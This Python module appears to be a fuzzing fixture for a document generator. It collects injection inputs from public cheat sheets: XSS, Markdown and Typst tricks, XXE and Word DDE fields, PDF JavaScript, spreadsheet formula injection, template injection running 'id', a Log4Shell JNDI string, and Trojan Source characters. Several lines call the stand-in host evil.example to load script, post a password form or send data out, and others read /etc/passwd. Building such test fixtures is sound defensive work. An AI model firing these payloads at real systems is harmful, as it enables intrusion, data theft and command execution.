"""What somebody may write in a report or a letter to make a page, a file or a program act: by what it aims at.

Gathered from what is publicly known of each (the cheat sheets on cross-site scripting of OWASP and PortSwigger, CSV
injection, XML entities, template injection, Trojan Source) and written by hand for Typst, Markdown and Word fields.
"""

SCRIPT = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<script type="text/javascript">alert(1)</script>
<script>alert(1)//
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
']"><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<IMG SRC=`javascript:alert(1)`>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img/src/onerror=alert(1)>
<img src="javascript:alert(1)">
<img srcset="x" onerror="alert(1)">
<img """><script>alert(1)</script>">
<image href="x" onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>klicka</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1)>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">klicka</math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background="javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="x"></applet>
<a href="javascript:alert(1)">klicka</a>
<a href="JaVaScRiPt:alert(1)">klicka</a>
<a href="java&#x09;script:alert(1)">klicka</a>
<a href="&#106;avascript:alert(1)">klicka</a>
<a href="javascript&colon;alert(1)">klicka</a>
<a href=" &#14; javascript:alert(1)">klicka</a>
<a href="data:text/html,<script>alert(1)</script>">klicka</a>
<a href="vbscript:msgbox(1)">klicka</a>
<a onmouseover=alert(1)>peka</a>
<a href=https://evil.example ping=https://evil.example/p>klicka</a>
<area href="javascript:alert(1)">
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="a=b">
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url("https://evil.example/?x")}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div onclick="alert(1)">klicka</div>
<p style="position:fixed;inset:0">över allt</p>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<video><source onerror="alert(1)"></video>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<form action="https://evil.example"><input name=losenord></form>
<form><button formaction=javascript:alert(1)>klicka</button></form>
<isindex action=javascript:alert(1) type=submit>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext>
<dialog open>Logga in igen</dialog>
<portal src="https://evil.example">
<custom-element onpointerenter=alert(1)>x</custom-element>
<table background="javascript:alert(1)"><tr><td>x
<b onfocus=alert(1) tabindex=1 id=x>x</b>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?php system('id'); ?>
<% response.write(1) %>
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
javascript:alert(1)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
'''.strip().split("\n")

MARKDOWN = [
    "[klick](javascript:alert(1))",
    "[klick](JaVaScRiPt:alert(1))",
    "[klick](javascript&colon;alert(1))",
    "[klick](&#106;avascript:alert(1))",
    "[klick](java\tscript:alert(1))",
    "[klick](vbscript:msgbox(1))",
    "[klick](data:text/html;base64,PHNjcmlwdD4=)",
    "[klick](file:///etc/passwd)",
    "[klick](\\\\evil.example\\dela)",
    "[klick](//evil.example)",
    "[klick](/admin/radera)",
    '[klick](https://a.example/" onmouseover="alert(1))',
    "[klick](https://a.example 'titel\" onclick=alert(1)')",
    "[klick](<javascript:alert(1)>)",
    "[a](javascript:alert(1)//\nb)",
    "![bild](https://evil.example/spår.png)",
    '![bild](x" onerror="alert(1))',
    "![bild][x]\n\n[x]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[klick][x]\n\n[x]: https://evil.example "onclick=alert(1)"',
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "{: onclick=alert(1) }",
    "# Rubrik {: #x onclick=alert(1) }",
    "*[AF]: <script>alert(1)</script>\n\nAF",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>a</script> | b |\n|---|---|\n| [j](javascript:1) | <img src=x onerror=1> |",
    "> <script>alert(1)</script>\n> \n> - [j](javascript:alert(1))",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "1. {{kvartalsdiagram}}",
    "[toc]",
    "\\<script>alert(1)\\</script>",
    "\ufddekvartalsdiagram\ufdde",
]

TYPST = """
#eval("1 + 1")
#read("/etc/passwd")
#include "/etc/passwd"
#import "@preview/cetz:0.3.0": *
#import "../letter.typ": sheet
#image("/etc/passwd")
#image(bytes("<svg/>"), format: "svg")
#set page(fill: red, margin: 0pt)
#set document(title: "annat", author: "annan")
#set text(size: 200pt, fill: white)
#show: it => none
#show heading: it => [borta]
#show regex("hemst.ller"): "kr.ver"
#metadata("x") <label>
#context counter(page).update(99)
#counter(page).update(99)
#link("javascript:alert(1)")[klick]
#place(top + left, rect(width: 100%, height: 100%, fill: white))
#pagebreak()
#hide[dolt]
#sys.inputs.sheet
#plugin("x.wasm")
#while true {}
#let f(x) = f(x); #f(1)
#panic("slut")
#pdf.attach("/etc/passwd")
$ integral_0^1 x dif x $
$ #eval("1") $
@referens <etikett>
= Rubrik
/ Term: beskrivning
+ numrerad
`#raw` ```typ #read("x") ```
// en kommentar
/* en kommentar */
\\ \\u{202e} \\#
~ -- --- -? ... 'x' "x"
*fet* _kursiv_ #strong[a] #emph[b]
#{ [a] } #[ b ] #"c"
https://typst.app/#x
""".strip().split("\n")

XML = [
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;'>]><x>&lol2;</x>",
    "<!ENTITY % p SYSTEM 'https://evil.example/x.dtd'> %p;",
    "]]></w:t></w:r></w:p><w:p><w:r><w:t>insatt",
    "</w:t><w:br/><w:t>",
    "<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/>",
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
    '{ HYPERLINK "https://evil.example" }',
    '{ INCLUDETEXT "file:///etc/passwd" }',
    '{ INCLUDEPICTURE "https://evil.example/x.png" }',
    '<w:altChunk r:id="x"/>',
    '<xi:include href="file:///etc/passwd" parse="text"/>',
    '<o:OLEObject Type="Link"/>',
    "&b; &#0; &#x0; &#xD800; &#65534; &nbsp; &amp; &#60;b&#62;",
    "\\u0000 _x0000_ _x0001_ _x000D_",
    "%PDF-1.4 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    "<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >> endobj",
    ") Tj ET BT (insatt",
    "<</S/URI/URI(https://evil.example)>>",
]

FORMULA = """
=1+1
=cmd|'/C calc'!A0
=HYPERLINK("https://evil.example?x="&A1,"klicka")
=IMPORTXML("https://evil.example","//a")
=WEBSERVICE("https://evil.example")
=DDE("cmd","/C calc","x")
=INDIRECT("A1")
@SUM(1+1)*cmd|'/C calc'!A0
+1+cmd|'/C calc'!A0
-1+cmd|'/C calc'!A0
-2+3+cmd|' /C calc'!D2
\t=1+1
|calc
%0A=1+1
";=1+1
'=1+1
＝1+1
＋1＋1
""".strip("\n").split("\n")

TEMPLATE = """
{{7*7}}
{{ config }}
{{ config.items() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
{{ request.application.__globals__ }}
{{ url_for.__globals__ }}
{{ letter.author.password_hash }}
{{ kommuntabell }}{{kommuntabell}}
{{kvartalsdiagram}} mitt i en mening
{{ evidence.__class__ }}
{% for x in range(9) %}x{% endfor %}
{% include "/etc/passwd" %}
{% import os %}
{% raw %}{{7*7}}{% endraw %}
{# kommentar #}
${7*7} #{7*7} *{7*7} @{7*7} ~{7*7}
<%= 7*7 %>
%(id)s %s %n %d {0.__class__} {x!r}
$(id) `id` ; id | id && id
${jndi:ldap://evil.example/a}
""".strip().split("\n")

CHARACTERS = [
    "\x00 \x01 \x08 \x0b \x0c \x0e \x1f \x7f \x80 \x9f nul och styr",
    "\ud800 ensam \udfff halva",
    "\ufffe \uffff \ufdd0 \ufdef ickeTecken",
    "bakvänt \u202etxet \u202c slut",
    "\u202dframåt \u202aa \u202bb slut",
    "\u2066isolerat\u2069 \u2067x\u2069 \u2068y\u2069 slut",
    "osynligt \U000e0041\U000e0042\U000e0043 slut",
    "bredd\u200bnoll \u200dfog \u2060ord \ufeffmärke",
    "mjukt\u00adbinde\u00adstreck",
    "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b staplat",
    "ﬁnal ﬂyta ½ ² ® ™ № ℅",
    "😀 👨‍👩‍👧 🇸🇪 ❤️",
    "中文 日本語 한국어",
    "العربية עברית",
    "𝓐𝓫𝓬 𝟙𝟚𝟛 Ａｂｃ",
    "rad\u2028skild\u2029stycke\u0085ny",
    "a" * 300,
    "å" * 200 + " " + "-" * 200,
]

ALL = (*SCRIPT, *MARKDOWN, *TYPST, *XML, *FORMULA, *TEMPLATE, *CHARACTERS)
